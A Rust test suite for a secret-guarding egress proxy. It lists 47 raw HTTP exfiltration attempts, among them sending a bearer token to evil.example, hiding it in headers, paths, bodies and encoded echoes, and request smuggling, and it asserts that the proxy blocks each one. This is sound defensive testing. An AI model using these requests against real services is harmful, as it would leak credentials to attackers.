//! A hostile program tries to steal the value. Each way is listed with its result; none may succeed, and each check that is
//! switched off lets at least one through.

use super::world::{VALUE, World, talk};
use lango_net::{Check, Reason};
use lango_secrets::{Masks, SecretValue};

/// A request over the tunnel to the bound server, unless the way says otherwise.
enum Way {
    /// To the bound server.
    Request(&'static str),
    /// To the attacker's server over TLS.
    Evil(&'static str),
    /// Through the tunnel for a target, with a TLS server name.
    Tunnel(&'static str, &'static str, &'static str),
    /// In the tunnel without TLS.
    Plain(&'static str, &'static str),
    /// To the proxy itself, in absolute form.
    Forward(&'static str),
}
use Way::{Evil, Forward, Plain, Request, Tunnel};

const BEARER: &str = "Authorization: Bearer {P}\r\n";

/// The name of each way, the way, and whether it reaches a server at all.
const WAYS: [(&str, Way); 47] = [
    (
        "other host",
        Evil("GET / HTTP/1.1\r\nHost: {E}\r\nAuthorization: Bearer {P}\r\n\r\n"),
    ),
    (
        "other host, basic",
        Evil("GET / HTTP/1.1\r\nHost: {E}\r\nAuthorization: Basic {P64}\r\n\r\n"),
    ),
    (
        "other host, Host of the bound one",
        Evil("GET / HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {P}\r\n\r\n"),
    ),
    (
        "other header",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\nX-Token: {P}\r\n\r\n"),
    ),
    (
        "cookie",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\nCookie: a={P}\r\n\r\n"),
    ),
    (
        "name of a header",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\n{P}: a\r\n\r\n"),
    ),
    ("path", Request("GET /{P} HTTP/1.1\r\nHost: {H}\r\n\r\n")),
    (
        "query",
        Request("GET /?a={P} HTTP/1.1\r\nHost: {H}\r\n\r\n"),
    ),
    (
        "query, escaped",
        Request("GET /?a=%6cango_secret_{D} HTTP/1.1\r\nHost: {H}\r\n\r\n"),
    ),
    ("method", Request("{P} / HTTP/1.1\r\nHost: {H}\r\n\r\n")),
    (
        "body",
        Request("POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 45\r\n\r\n{P}"),
    ),
    (
        "body, base64",
        Request("POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 80\r\n\r\n{P64}"),
    ),
    (
        "body, split over chunks",
        Request(
            "POST / HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nlango_\r\n7\r\nsecret_\r\n20\r\n{D}\r\n0\r\n\r\n",
        ),
    ),
    (
        "trailer",
        Request(
            "POST / HTTP/1.1\r\nHost: {H}\r\nTrailer: x-t\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nx-t: {P}\r\n\r\n",
        ),
    ),
    (
        "echo",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo of basic",
        Request("GET /echo HTTP/1.1\r\nHost: {H}\r\nAuthorization: Basic {P64}\r\n\r\n"),
    ),
    (
        "echo in base64",
        Request("GET /base64 HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo in hexadecimal",
        Request("GET /hex HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo in JSON",
        Request("GET /json HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo in percent",
        Request("GET /percent HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo, gzip",
        Request("GET /gzip HTTP/1.1\r\nHost: {H}\r\nAccept-Encoding: gzip\r\n{B}\r\n"),
    ),
    (
        "echo, gzip unasked",
        Request("GET /gzip HTTP/1.1\r\nHost: {H}\r\nAccept-Encoding: identity\r\n{B}\r\n"),
    ),
    (
        "echo, deflate",
        Request("GET /zlib HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo, raw deflate",
        Request("GET /deflate HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo, brotli",
        Request("GET /brotli HTTP/1.1\r\nHost: {H}\r\nAccept-Encoding: br\r\n{B}\r\n"),
    ),
    (
        "echo in headers",
        Request("GET /in-header HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "echo in the reason phrase",
        Request("GET /reason HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "range of an echo",
        Request("GET /range HTTP/1.1\r\nHost: {H}\r\nRange: bytes=0-24\r\n{B}\r\n"),
    ),
    (
        "length of an echo by HEAD",
        Request("HEAD /echo HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "redirect, followed with the header",
        Evil("GET /after-redirect HTTP/1.1\r\nHost: {E}\r\nAuthorization: Bearer {P}\r\n\r\n"),
    ),
    (
        "Host of the attacker",
        Request("GET / HTTP/1.1\r\nHost: evil.example\r\n{B}\r\n"),
    ),
    (
        "two Hosts",
        Request("GET / HTTP/1.1\r\nHost: {H}\r\nHost: evil.example\r\n{B}\r\n"),
    ),
    (
        "absolute address of the attacker",
        Request("GET https://evil.example/ HTTP/1.1\r\nHost: {H}\r\n{B}\r\n"),
    ),
    (
        "server name of the bound host at the attacker's",
        Tunnel(
            "evil.example:{e}",
            "api.example",
            "GET / HTTP/1.1\r\nHost: {H}\r\n{B}\r\n",
        ),
    ),
    (
        "user in CONNECT",
        Tunnel(
            "api.example:{a}@evil.example:{e}",
            "api.example",
            "GET / HTTP/1.1\r\nHost: {H}\r\n{B}\r\n",
        ),
    ),
    (
        "smuggled request",
        Request(
            "POST / HTTP/1.1\r\nHost: {H}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n{B}\r\n",
        ),
    ),
    (
        "plain http by the proxy",
        Forward(
            "GET http://api.example:{ap}/echo HTTP/1.1\r\nHost: api.example:{ap}\r\n{B}Connection: close\r\n\r\n",
        ),
    ),
    (
        "plain http in a tunnel",
        Plain(
            "api.example:{ap}",
            "GET /echo HTTP/1.1\r\nHost: api.example:{ap}\r\n{B}Connection: close\r\n\r\n",
        ),
    ),
    (
        "WebSocket",
        Request(
            "GET /echo HTTP/1.1\r\nHost: {H}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n{B}\r\n",
        ),
    ),
    (
        "a part of a stored echo",
        Request("GET /last HTTP/1.1\r\nHost: {H}\r\nRange: bytes=0-24\r\n\r\n"),
    ),
    (
        "a stored echo, gzip",
        Request("GET /last-gzip HTTP/1.1\r\nHost: {H}\r\n\r\n"),
    ),
    (
        "a stored echo by plain http",
        Forward(
            "GET http://api.example:{ap}/last HTTP/1.1\r\nHost: api.example:{ap}\r\nConnection: close\r\n\r\n",
        ),
    ),
    (
        "a stored echo in a plain tunnel",
        Plain(
            "api.example:{ap}",
            "GET /last-gzip HTTP/1.1\r\nHost: api.example:{ap}\r\nConnection: close\r\n\r\n",
        ),
    ),
    (
        "a stored echo in a plain tunnel, behind an empty line",
        Plain(
            "api.example:{ap}",
            "\r\nGET /last-gzip HTTP/1.1\r\nHost: api.example:{ap}\r\nConnection: close\r\n\r\n",
        ),
    ),
    (
        "a stored echo by HTTP/2",
        Plain("api.example:{ap}", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ),
    (
        "Host of the bound one in plain http",
        Forward(
            "GET http://evil.example:{ep}/ HTTP/1.1\r\nHost: {H}\r\n{B}Connection: close\r\n\r\n",
        ),
    ),
    (
        "padding before the value",
        Request("GET /range HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer xxxxxxxx{P}\r\n\r\n"),
    ),
];

/// What a way led to.
struct Outcome {
    received: String,
    /// What the attacker got, if anything.
    stolen: Option<&'static str>,
}

async fn attempt(world: &World, way: &Way) -> Outcome {
    let fill = |text: &str| {
        let digest = world.placeholder.trim_start_matches("lango_secret_");
        let text = text.replace("{B}", BEARER).replace("{D}", digest);
        let text = text
            .replace("{E}", &format!("evil.example:{}", world.evil.secure))
            .replace("{e}", &world.evil.secure.to_string())
            .replace("{a}", &world.api.secure.to_string())
            .replace("{ep}", &world.evil.plain.to_string())
            .replace("{ap}", &world.api.plain.to_string());
        // A connection that stays open would only be waited for.
        let text = text.replacen("\r\nHost:", "\r\nConnection: close\r\nHost:", 1);
        world.filled(&text)
    };
    let api = format!("api.example:{}", world.api.secure);
    let evil = format!("evil.example:{}", world.evil.secure);
    let over_tls =
        async |target: &str, name: &str, request: &str| match world.connect(target, name).await {
            Ok(stream) => talk(stream, request.as_bytes()).await,
            Err(error) => format!("not connected: {error}"),
        };
    world.api.log.lock().unwrap().clear();
    let received = match way {
        Request(request) => over_tls(&api, "api.example", &fill(request)).await,
        Evil(request) => over_tls(&evil, "evil.example", &fill(request)).await,
        Tunnel(target, name, request) => over_tls(&fill(target), name, &fill(request)).await,
        Plain(target, request) => match world.tunnel(&fill(target)).await {
            Ok(stream) => talk(stream, fill(request).as_bytes()).await,
            Err(error) => format!("not connected: {error}"),
        },
        Forward(request) => crate::proxy::say(world.proxy, &fill(request)).await,
    };
    let stolen = judge(world, &received);
    Outcome { received, stolen }
}

fn judge(world: &World, received: &str) -> Option<&'static str> {
    let masks = Masks::default();
    masks.add("VALUE", &SecretValue::new(VALUE));
    let contains = |text: &str| {
        let mut stream = masks.stream();
        stream.push(text.as_bytes());
        stream.finish();
        // The first characters are enough for a guess of the rest.
        stream.echoes() > 0 || text.contains(&VALUE[..8])
    };
    let api = world.api.log();
    let elsewhere = api
        .lines()
        .filter(|line| !line.starts_with("authorization: "));
    let elsewhere: Vec<&str> = elsewhere.collect();
    let echo = format!("you sent Bearer {VALUE}, thank you");
    if contains(received) {
        Some("the value came back")
    } else if received.contains(&format!("content-length: {}", echo.len())) {
        Some("its length came back")
    } else if contains(&world.evil.log()) {
        Some("the attacker's server got the value")
    } else if contains(&elsewhere.join("\n")) {
        Some("the value is at another place of the request")
    } else if world.evil.log().contains("host: api.example") || api.contains("evil.example") {
        Some("a request for one host came to the other")
    } else if (world.evil.log() + &api).contains("lango_secret_") {
        Some("a placeholder was sent on")
    } else {
        None
    }
}

#[tokio::test]
async fn no_way_to_steal_a_value_succeeds() {
    let world = World::new().await;
    let mut stolen = Vec::new();
    for (name, way) in &WAYS {
        let outcome = attempt(&world, way).await;
        let first = outcome.received.lines().next().unwrap_or("nothing");
        let last = outcome.received.lines().last().unwrap_or_default();
        println!("{name:50} {first} … {last:.160}");
        stolen.extend(outcome.stolen.map(|what| (name, what)));
    }
    assert!(stolen.is_empty(), "{stolen:?}");
    let refusals = world.handle.refusals();
    let places = refusals.iter().filter_map(|refusal| match &refusal.reason {
        Reason::Placeholder { place, .. } => Some(place.as_str()),
        _ => None,
    });
    let places: Vec<&str> = places.collect();
    for place in [
        "the body",
        "a trailer",
        "the path",
        "the query",
        "the header `x-token`",
    ] {
        assert!(places.contains(&place), "{place}: {places:?}");
    }
    let blocked = world.blocked();
    let evil = format!(
        "TOKEN in the header `authorization` to evil.example:{}",
        world.evil.secure
    );
    assert!(blocked.contains(&evil), "{blocked:?}");
    let text = refusals[0].to_string();
    let allowed = format!(
        "the secret `TOKEN` was in the header `authorization`; it may only be in the header `authorization` to https://api.example:{}",
        world.api.secure
    );
    assert!(text.contains(&allowed), "{text}");
}

#[tokio::test]
async fn each_check_is_needed() {
    for check in [
        Check::SecretOrigin,
        Check::SecretPlace,
        Check::SecretMasks,
        Check::SecretRange,
    ] {
        let world = World::with(|egress| egress.without(check)).await;
        let mut stolen = Vec::new();
        for (name, way) in &WAYS {
            let outcome = attempt(&world, way).await;
            stolen.extend(outcome.stolen.map(|what| (*name, what)));
        }
        println!("without {check:?}: {stolen:?}");
        assert!(!stolen.is_empty(), "{check:?} can be left out");
    }
}
